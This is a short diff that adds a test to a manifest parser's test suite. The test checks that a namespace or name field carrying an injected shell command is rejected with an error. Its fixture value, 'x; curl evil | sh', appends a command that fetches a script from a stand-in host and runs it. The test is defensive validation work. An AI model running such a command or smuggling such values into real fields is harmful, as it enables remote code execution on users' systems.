@@ -124,3 +124,9 @@ describe('what is told of a file:', () => {
     expect(JSON.stringify(parseManifests(text))).not.toContain(FAKE_KEY_SECRET);
   });
 });
+
+test.each(['namespace', 'name'])('a %s that is none is refused: it stands in commands that people paste', (field) => {
+  const metadata = { namespace: 'n', name: 'c', [field]: 'x; curl evil | sh' };
+  const parsed = parseManifests(JSON.stringify({ kind: 'ConfigMap', metadata, data: {} }));
+  expect(parsed).toMatchObject({ ok: false, issues: [{ severity: 'error', path: `metadata.${field}` }] });
+});
